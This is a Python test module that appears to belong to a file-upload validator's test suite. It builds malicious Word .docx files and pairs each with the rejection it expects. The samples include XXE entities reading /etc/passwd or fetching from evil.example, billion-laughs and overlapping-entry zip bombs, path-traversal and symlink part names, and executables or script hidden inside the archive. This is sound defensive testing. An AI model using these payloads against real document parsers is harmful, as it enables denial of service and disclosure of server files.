"""Word .docx files whose XML or zip lies, and other kinds of file under the name of one."""

import io
import os
import struct
import zipfile
import zlib

from filestore.errors import (
    AnotherKind,
    ContentDiffers,
    DefinesEntities,
    FileCutShort,
    FileDamaged,
    FileEncrypted,
    FileIsBomb,
    PathsInside,
    SomethingAppended,
    TooManyPixels,
    TwoKindsInOne,
    TypeRefused,
)
from tests.filestore.hostile.programs import EXE, OLE, zip_of
from tests.filestore.hostile.word_making import PNG, typed, with_body
from tests.filestore.hostile.words import family
from tests.filestore.making import WORD_TYPE, changed_docx

add = family.add

# --- XML that is more than text
ENTITIES = {
    "of a file": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "of an address": '<!DOCTYPE a [<!ENTITY b SYSTEM "https://evil.example/a">]>',
    "by parameter": '<!DOCTYPE a [<!ENTITY % b SYSTEM "https://evil.example/a"> %b;]>',
    "a billion laughs": '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "'
    + "&a;" * 100
    + '"><!ENTITY c "'
    + "&b;" * 100
    + '">]>',
    "a plain one": '<!DOCTYPE a [<!ENTITY b "c">]>',
    "none, by a definition elsewhere": '<!DOCTYPE a SYSTEM "https://evil.example/a.dtd">',
}
for title, head in ENTITIES.items():
    for part in (
        "word/document.xml",
        "word/settings.xml",
        "word/_rels/document.xml.rels",
        "docProps/core.xml",
        "customXml/item1.xml",
    ):
        add(
            f"entity {title} in {part}",
            changed_docx(drop=part, add={part: (head + "<a>&b;</a>").encode()}),
            DefinesEntities,
        )
    add(
        f"entity {title} in the types",
        changed_docx(types=lambda text, head=head: head + text[text.index("?>") + 2 :].lstrip()),
        DefinesEntities,
    )
add("abyss of elements", with_body("<w:p>" * 5_000 + "</w:p>" * 5_000), FileIsBomb)
add("three million elements", lambda: with_body("<w:p/>" * 3_000_000), FileIsBomb)
add(
    "tag of twenty megabytes",
    lambda: with_body("<w:p a='" + "\u00e9" * 9_000_000 + "'/>"),
    FileIsBomb,
)
add(
    "part that breaks off",
    changed_docx(drop="word/document.xml", add={"word/document.xml": b"<w:document"}),
    FileDamaged,
)
add(
    "part that is no XML",
    changed_docx(drop="word/document.xml", add={"word/document.xml": EXE}),
    FileDamaged,
)
add(
    "part of spaces without names",
    changed_docx(drop="word/document.xml", add={"word/document.xml": b"<w:a/>"}),
    FileDamaged,
)

# --- Zips that lie
BALLAST = os.urandom(1_000_000)
add(
    "part of 25 MB of nothing",
    lambda: changed_docx(add={"word/media/a.bmp": b"\x00" * 25_000_000}),
    FileIsBomb,
)
add(
    "part of nothing beside a photograph",
    lambda: changed_docx(
        add={"word/media/a.bmp": b"\x00" * 15_000_000, "word/media/b.jpg": BALLAST}
    ),
    FileIsBomb,
)
add(
    "thirty parts of nothing",
    lambda: changed_docx(add={f"word/media/{n}.bmp": b"\x00" * 9_000_000 for n in range(15)}),
    FileIsBomb,
)
add("text of 100 MB", lambda: with_body("<w:p/>" + " " * 100_000_000), FileIsBomb)
add("types of 2 MB", changed_docx(types=lambda text: text + " " * 2_000_000), FileIsBomb)
add(
    "six thousand parts",
    lambda: changed_docx(add={f"word/media/{n}.bmp": b"" for n in range(6_000)}),
    FileIsBomb,
)


def overlapping(count=200, quoted=False):
    """Many entries of the directory that all unpack the same bytes (Fifield's way)."""
    kernel = zlib.compress(b"<a>" + b" " * 900_000 + b"</a>", 9)[2:-4]
    good = changed_docx()
    end = good.rindex(b"PK\x05\x06")
    size, start = struct.unpack_from("<II", good, end + 12)
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, 0, len(kernel), 900_007, 5, 0
    )
    body, central = good[:start], good[start : start + size]
    crc = zlib.crc32(b"<a>" + b" " * 900_000 + b"</a>")
    local = local[:14] + struct.pack("<I", crc) + local[18:]
    at = len(body)
    for number in range(count):
        name = b"w%03d" % number + b".xml"
        if quoted or number == 0:
            place = len(body)
            body += local[:26] + struct.pack("<H", len(name)) + local[28:] + name
            if number == 0:
                first = place
        central += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                33,
                crc,
                len(kernel),
                900_007,
                len(name),
                0,
                0,
                0,
                0,
                0,
                first if not quoted else place,
            )
            + name
        )
    body += kernel
    entries = struct.unpack_from("<H", good, end + 10)[0] + count
    assert at
    return (
        body
        + central
        + struct.pack(
            "<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(central), len(body), 0
        )
    )


add("two hundred parts in one place", lambda: overlapping(), FileIsBomb)
add("parts that quote each other", lambda: overlapping(quoted=True), FileIsBomb)


def patched(at, form, value, signature=b"PK\x01\x02", content=None):
    content = bytearray(content or changed_docx())
    struct.pack_into(form, content, content.rindex(signature) + at, value)
    return bytes(content)


add("directory that says it is 2 MB", patched(12, "<I", 2_000_000, b"PK\x05\x06"), FileIsBomb)
add("directory of 65,535 entries", patched(10, "<H", 65_535, b"PK\x05\x06"), FileDamaged)
add("directory of one entry", patched(10, "<H", 1, b"PK\x05\x06"), FileDamaged)
add("directory on another disk", patched(4, "<H", 3, b"PK\x05\x06"), FileDamaged)
add("part locked with a password", patched(8, "<H", 1), FileEncrypted)
add("part locked with a strong password", patched(8, "<H", 0x41), FileEncrypted)
add("directory locked", patched(8, "<H", 0x2001), FileEncrypted)
add("part packed in a way nobody knows", patched(10, "<H", 99), FileDamaged)
add("part with a false check sum", patched(16, "<I", 12345), FileDamaged)
add("part longer than said", patched(24, "<I", 10), FileDamaged)
add("part shorter than said", patched(24, "<I", 999_999), FileDamaged)
add("part beyond the end", patched(42, "<I", 0x7FFFFFFF), FileDamaged)
add("part that is another part", patched(42, "<I", 0), FileIsBomb)
add("part packed by bzip2", changed_docx(method=zipfile.ZIP_BZIP2), FileDamaged)
add("part packed by LZMA", changed_docx(method=zipfile.ZIP_LZMA), FileDamaged)
add("record of huge archives", lambda: zip64(), FileIsBomb)
add("program before the zip", EXE + changed_docx(), AnotherKind)
add("zip before the zip", zip_of({"a": b"b"}) + changed_docx(), TwoKindsInOne)
add("program between the parts", lambda: hidden_between(EXE), TwoKindsInOne)
add(
    "page between the parts",
    lambda: hidden_between(b"<html><script>alert(1)</script>"),
    TwoKindsInOne,
)
add("something behind the zip", changed_docx() + b"more", SomethingAppended)
add("program behind the zip", changed_docx() + EXE, SomethingAppended)
add(
    "comment behind the zip",
    changed_docx()[:-2] + struct.pack("<H", 12) + b"hello, world",
    SomethingAppended,
)
add("comment that is not there", changed_docx()[:-2] + struct.pack("<H", 12), SomethingAppended)
for path in (
    *("../../evil.xml", "word/../../evil.xml", "/etc/evil.xml", "..\\evil.xml", "C:/evil.xml"),
    *("WORD/document.xml", "word/a\nb.xml", "word/..", "\\\\evil\\a.xml", "word/media/a.png:b.exe"),
):
    add(f"part called {path!r}", changed_docx(add={path: b"<x/>"}), PathsInside)


def zip64():
    content = changed_docx()
    end = content.rindex(b"PK\x05\x06")
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    return content[:end] + locator + content[end:]


def hidden_between(secret):
    content = changed_docx()
    end = content.rindex(b"PK\x05\x06")
    size, start = struct.unpack_from("<II", content, end + 12)
    shifted = content[end : end + 16] + struct.pack("<I", start + len(secret)) + content[end + 20 :]
    return content[:start] + secret + content[start:end] + shifted


def symbolic_link():
    link = zipfile.ZipInfo("word/media/a.png")
    link.external_attr = 0o120777 << 16
    return changed_docx(add={link: b"/etc/passwd"})


add("part that is a symbolic link", symbolic_link(), PathsInside)


def twice():
    output = io.BytesIO(changed_docx())
    with zipfile.ZipFile(output, "a") as package:
        package.NameToInfo.clear()
        package.writestr("word/document.xml", b"<x/>")
    return output.getvalue()


add("part that stands there twice", twice(), PathsInside)
add(
    "picture of ten billion pixels",
    changed_docx(
        add={"word/media/a.png": PNG[:16] + struct.pack(">II", 100_000, 100_000) + PNG[24:]}
    ),
    TooManyPixels,
)
add(
    "drawing that unpacks to 60 MB",
    lambda: changed_docx(
        add={
            "word/media/a.emz": b"\x1f\x8b\x08"
            + b"\x00" * 7
            + zlib.compress(b"\x00" * 60_000_000, 9)[2:-4]
        }
    ),
    FileIsBomb,
)

# --- Other kinds under the name
add("zip of text", zip_of({"a.txt": b"a"}), AnotherKind)
add("zip of a program", zip_of({"tool.exe": EXE}), AnotherKind)
add(
    "workbook",
    typed(WORD_TYPE, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    TypeRefused,
)
add(
    "presentation",
    typed(
        WORD_TYPE,
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
    TypeRefused,
)
add("no main part", changed_docx(drop="word/document.xml"), FileDamaged)
add("no types", changed_docx(drop="[Content_Types].xml"), AnotherKind)
add("types that break off", changed_docx(types=lambda text: text[:40]), FileDamaged)
add("rich text", b"{\\rtf1\\ansi{\\object\\objdata 0105}}", AnotherKind)
add("page", b"<html><script>alert(1)</script></html>", AnotherKind)
add(
    "page of a browser's archive",
    b"MIME-Version: 1.0\nContent-Type: multipart/related\n",
    AnotherKind,
)
add(
    "XML of Word 2003",
    b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument/>",
    AnotherKind,
)
add("named as a .doc", changed_docx(), ContentDiffers, name="order.doc")
add("nothing but an end", b"PK\x05\x06" + b"\x00" * 18, AnotherKind)
add("Office file of no kind", OLE, FileDamaged)
for part in (0.1, 0.4, 0.7, 0.95):
    add(f"cut at {part:.0%}", changed_docx()[: int(len(changed_docx()) * part)], FileCutShort)
add("no relations", changed_docx(drop="_rels/.rels"), FileDamaged)
